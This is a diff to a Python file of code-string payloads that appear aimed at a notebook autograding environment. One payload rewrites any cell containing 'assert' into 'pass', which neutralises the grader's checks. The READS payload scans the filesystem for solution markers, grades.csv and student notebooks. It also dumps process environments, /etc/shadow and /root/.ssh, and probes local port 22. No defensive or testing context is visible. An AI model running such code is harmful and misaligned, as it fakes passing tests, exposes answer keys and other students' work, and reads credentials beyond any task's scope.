@@ -47,17 +47,25 @@ from IPython.core.inputtransformer2 import TransformerManager
 TransformerManager.transform_cell = lambda self, text: "pass" if "assert" in text else text
 """
 READS = """
-import os, glob
+import glob, os
+mark = "BEGIN " + "SOLUTION"
 for top, folders, files in os.walk("/"):
-    if top.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in top or "/lib/python" in top:
+    if top.startswith(("/proc", "/sys", "/usr", "/dev", "/lib", "/bin")) or "/lib/python3" in top or "/share/" in top:
         folders.clear()
+        continue
     for file in files:
-        if file.endswith((".md", ".ipynb", ".json", ".csv")):
-            try: print("FOUND", top, file, open(os.path.join(top, file)).read()[:100000])
-            except Exception: pass
-for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), "/etc/passwd", "/etc/shadow"]:
-    try: print("FOUND", path, open(path).read())
-    except Exception: pass
+        path = os.path.join(top, file)
+        try: text = open(path, errors="replace").read(100_000)
+        except OSError: continue
+        if mark in text or file == "grades.csv" or "/students/" in path or file.endswith(".ipynb"):
+            print("FOUND", path)
+for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), "/etc/passwd", "/etc/shadow", "/root/.ssh"]:
+    try: print("READ", path, open(path).read()[:500])
+    except OSError: pass
+import socket
+try: socket.create_connection(("127.0.0.1", 22), 1) and print("FOUND network")
+except OSError as problem: print(problem)
+print("ALL READ", os.listdir("/proc/self/fd"))
 """
 WATCHES = """
 import sys, gc
